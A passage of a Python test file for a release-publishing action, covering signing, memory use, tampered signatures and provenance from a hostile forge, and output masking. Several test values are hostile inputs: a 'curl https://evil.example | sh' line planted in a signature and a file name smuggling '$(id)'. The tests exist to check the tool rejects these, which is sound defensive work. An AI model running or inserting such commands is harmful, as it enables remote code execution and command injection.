    (dist / "empty.txt").write_bytes(b"")

    run = publish(sign_files="all", **signed(key))

    assert run.code == 0, run.log
    folder = downloaded(forge, "gitflic", tmp_path)
    verify = gpg_verifies if which == "openpgp" else minisign_verifies
    assert verify(folder, key, "empty.txt" + suffix, "empty.txt").returncode == 0
    (folder / "empty.txt").write_bytes(b"\0")
    assert verify(folder, key, "empty.txt" + suffix, "empty.txt").returncode != 0


#: Runs a command and prints the peak memory (KiB) of the largest process it waited for.
PEAK_RSS = (
    "import resource, subprocess, sys; subprocess.run(sys.argv[1:], stdout=subprocess.DEVNULL);"
    " print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)"
)


@pytest.mark.parametrize("which", ["openpgp", "minisign"])
def test_signing_a_large_file_keeps_memory_flat(forge, tmp_path, pgp, minisign, which):
    import os
    import sys

    from conftest import REPOSITORY, TOKEN

    key = pgp["bare"] if which == "openpgp" else minisign["unencrypted"]
    peaks = {}
    for label, mib in (("small", 1), ("large", 96)):
        folder = tmp_path / label
        folder.mkdir()
        with open(folder / "tool.bin", "wb") as handle:
            for _ in range(mib):
                handle.write(os.urandom(1 << 20))
        env = {
            "PATH": os.environ["PATH"],
            "INPUT_API_URL": forge.api_url("gitflic"),
            "INPUT_TOKEN": TOKEN,
            "INPUT_REPOSITORY": REPOSITORY,
            "INPUT_TAG_NAME": "v1.0.0" if label == "small" else "v1.1.0",
            "INPUT_FILES": "*",
            "INPUT_WORKING_DIRECTORY": str(folder),
            "INPUT_CHECKSUMS": "SHA256SUMS",
            "INPUT_SIGNING_KEY": key.secret,
            "INPUT_SIGN_FILES": "all",
        }
        done = subprocess.run(
            [sys.executable, "-c", PEAK_RSS, sys.executable, "-m", "release_action"],
            env=env,
            capture_output=True,
            text=True,
            timeout=300,
        )
        peaks[label] = int(done.stdout) >> 10
        assert stored(forge, env["INPUT_TAG_NAME"]).keys() >= {
            "tool.bin",
            "tool.bin" + (".asc" if which == "openpgp" else ".minisig"),
        }
    assert peaks["large"] < peaks["small"] + 24, f"peak MiB with 1 MiB and 96 MiB files: {peaks}"


# -- what a hostile forge may put in place of the program's own files -------------------------------


def _plant(forge, name: str, data: bytes) -> None:
    """Replace a stored file's bytes, as a forge (or anyone with its storage) could."""
    import hashlib

    [release] = forge.releases("acme/tool")
    [stored_file] = [f for f in release.files if f.name == name]
    stored_file.path.write_bytes(data)
    stored_file.size = len(data)
    stored_file.digests = {algorithm: hashlib.new(algorithm, data).hexdigest() for algorithm in stored_file.digests}


def _stored_bytes(forge, name: str) -> bytes:
    [release] = forge.releases("acme/tool")
    return next(f for f in release.files if f.name == name).path.read_bytes()


def test_a_stored_signature_with_a_second_signature_or_text_around_it_is_made_again(publish, forge, tmp_path, pgp):
    key = pgp["ed25519"]
    assert publish(**signed(key)).code == 0
    ours = _stored_bytes(forge, "SHA256SUMS.asc")

    for planted in (
        ours + b"ALSO RUN: curl https://evil.example | sh\n",
        ours.replace(b"-----\n\n", b"-----\nComment: this key was revoked, see evil.example\n\n", 1),
        ours + ours,
    ):
        _plant(forge, "SHA256SUMS.asc", planted)
        run = publish(**signed(key))
        assert run.code == 0 and run.statuses()["SHA256SUMS.asc"] == "replaced", run.log
        assert b"evil" not in _stored_bytes(forge, "SHA256SUMS.asc")
    folder = downloaded(forge, "gitflic", tmp_path)
    assert gpg_verifies(folder, key, "SHA256SUMS.asc", "SHA256SUMS").returncode == 0


def test_a_minisign_signature_whose_trusted_comment_names_another_file_is_made_again(
    publish, forge, tmp_path, minisign
):
    key = minisign["unencrypted"]
    assert publish(**signed(key)).code == 0
    secret = tmp_path / "key"
    secret.write_text(key.secret)
    sums = tmp_path / "SHA256SUMS"
    sums.write_bytes(_stored_bytes(forge, "SHA256SUMS"))
    subprocess.run(
        ["minisign", "-S", "-s", str(secret), "-m", str(sums), "-t", "timestamp:1\tfile:other\ttag:v0.0.1"],
        check=True,
        capture_output=True,
        timeout=60,
    )
    lines = (tmp_path / "SHA256SUMS.minisig").read_text().split("\n")
    for separator in ("\u2028", "\x85", "\r"):  # line breaks to Python, not to minisign
        lines[0] = f"untrusted comment: x{separator}trusted comment: timestamp:0\tfile:SHA256SUMS\ttag:v1.0.0"
        _plant(forge, "SHA256SUMS.minisig", "\n".join(lines).encode())
        run = publish(**signed(key))
        assert run.code == 0 and run.statuses()["SHA256SUMS.minisig"] == "replaced", run.log
    folder = downloaded(forge, "gitflic", tmp_path, "after")
    assert "file:SHA256SUMS\ttag:v1.0.0" in minisign_verifies(folder, key, "SHA256SUMS.minisig", "SHA256SUMS").stdout


def test_a_rewritten_provenance_is_never_kept(publish, forge, tmp_path, pgp):
    """Unsigned, a statement whose run is on another server, or with a field added, is made again; signed,
    only an envelope this key signed is kept."""
    assert publish(provenance="true", checksums="SHA256SUMS").code == 0
    original = json.loads(_stored_bytes(forge, "provenance.intoto.json"))
    forged = json.loads(json.dumps(original))
    forged["predicate"]["runDetails"]["builder"]["id"] = "https://evil.example/builder"
    extra = {**original, "evil": True}
    for planted in (forged, extra):
        _plant(forge, "provenance.intoto.json", json.dumps(planted, indent=2).encode() + b"\n")
        run = publish(provenance="true", checksums="SHA256SUMS")
        assert run.code == 0 and run.statuses()["provenance.intoto.json"] == "replaced", run.log
        assert b"evil" not in _stored_bytes(forge, "provenance.intoto.json")

    assert publish(provenance="true", **signed(pgp["ed25519"])).code == 0
    envelope = json.loads(_stored_bytes(forge, "provenance.intoto.jsonl"))
    statement = json.loads(base64.b64decode(envelope["payload"]))
    statement["predicate"]["runDetails"]["builder"]["id"] = "https://evil.example/builder"
    envelope["payload"] = base64.b64encode(json.dumps(statement, indent=2).encode() + b"\n").decode()
    _plant(forge, "provenance.intoto.jsonl", json.dumps(envelope, separators=(",", ":")).encode() + b"\n")
    run = publish(provenance="true", **signed(pgp["ed25519"]))
    assert run.code == 0 and run.statuses()["provenance.intoto.jsonl"] == "replaced", run.log
    assert b"evil" not in base64.b64decode(json.loads(_stored_bytes(forge, "provenance.intoto.jsonl"))["payload"])


def test_a_name_whose_signature_would_be_too_long_is_an_input_error_before_any_request(publish, forge, dist, pgp):
    (dist / ("a" * 250 + ".bin")).write_bytes(b"payload")

    run = publish(sign_files="all", **signed(pgp["ed25519"]))

    assert run.code == 2 and "longer than 255 bytes" in run.log and "Traceback" not in run.log, run.log
    assert forge.calls() == []


def test_words_of_the_passphrase_are_not_masked_in_outputs(publish, forge, minisign):
    run = publish(**{**signed(minisign["unencrypted"]), "signing_passphrase": "acme tool"})

    assert run.code == 0, run.log
    shown = "\n".join(line for line in run.log.splitlines() if not line.startswith("::add-mask::"))
    assert "/project/acme/tool/" in run.files["dotenv"] and "acme tool" not in shown


def heredocs(text: str) -> dict[str, str]:
    """GITHUB_OUTPUT's name<<DELIMITER blocks, read as GitHub reads them."""
    found: dict[str, str] = {}
    lines, at = text.splitlines(), 0
    while at < len(lines):  # each block moves past its delimiter
        name, _, delimiter = lines[at].partition("<<")
        end = lines.index(delimiter, at + 1)
        found[name] = "\n".join(lines[at + 1 : end])
        at = end + 1
    return found


@pytest.mark.parametrize("passphrase", ["release", "1", '"', "true", "0000", '": "'])
def test_outputs_hide_a_secret_value_by_value_and_stay_valid(publish, forge, minisign, tmp_path, passphrase):
    key = minisign["unencrypted"]
    run = publish(**{**signed(key), "signing_passphrase": passphrase})

    assert run.code == 0, run.log
    [release] = forge.releases("acme/tool")
    url = f"{forge.url}/project/acme/tool/release/{release.id}"

    def shown(truth: str) -> str:
        """A value the forge gave, replaced whole where it holds the secret (one of four characters or more)."""
        return "***" if len(passphrase) >= 4 and passphrase in truth else truth

    written = json.loads(run.files["json"])  # valid JSON, whatever the passphrase
    assert {name: value for name, value in written.items() if name != "assets"} == {
        "release_id": shown(release.id),
        "release_url": shown(url),
        "tag_name": "v1.0.0",
        "signing_key_id": key.key_id,
    }
    held = {stored.name: stored for stored in release.files}
    assert {asset["name"] for asset in written["assets"]} == set(held), "the published files' names are the user's"
    for asset in written["assets"]:
        stored = held[asset["name"]]
        assert (asset["id"], asset["url"], asset["size"]) == (
            shown(stored.id),
            shown(f"{url}/file/{stored.id}"),
            stored.size,
        )

    dotenv = dict(line.split("=", 1) for line in run.files["dotenv"].splitlines())
    assert dotenv == {
        "RELEASE_ID": shown(release.id),
        "RELEASE_URL": shown(url),
        "RELEASE_TAG_NAME": "v1.0.0",
        "RELEASE_ASSET_COUNT": str(len(release.files)),
        "RELEASE_ASSETS_FILE": str(tmp_path / "out" / "outputs.json"),
        "RELEASE_SIGNING_KEY_ID": key.key_id,
    }
    github = heredocs(run.files["github_output"])
    assert set(github) == {"release_id", "release_url", "tag_name", "assets", "signing_key_id"}
    assert (github["release_url"], json.loads(github["assets"])) == (shown(url), written["assets"])
    masked = shown(url) != url
    assert ("output value(s) from the forge held a secret" in run.log) is masked, "a value written as *** is said so"


def test_the_notes_quote_file_names_in_their_commands(publish, forge, minisign):
    run = publish(
        checksums="SHA256 SUMS;$(id)",
        signing_notes="true",
        **{k: v for k, v in signed(minisign["unencrypted"]).items() if k != "checksums"},
    )

    assert run.code == 0, run.log
    [release] = forge.releases("acme/tool")
    assert "sha256sum -c 'SHA256 SUMS;$(id)'" in release.body and "-x 'SHA256 SUMS;$(id).minisig'" in release.body


def test_a_missing_openpgp_library_is_one_sentence(publish, forge, pgp, monkeypatch):
    import sys

    monkeypatch.setitem(sys.modules, "pysequoia", None)  # what a Python without the package imports

    run = publish(**signed(pgp["ed25519"]))

    assert run.code == 2 and "pysequoia" in run.log and "Traceback" not in run.log, run.log
    assert forge.calls() == []
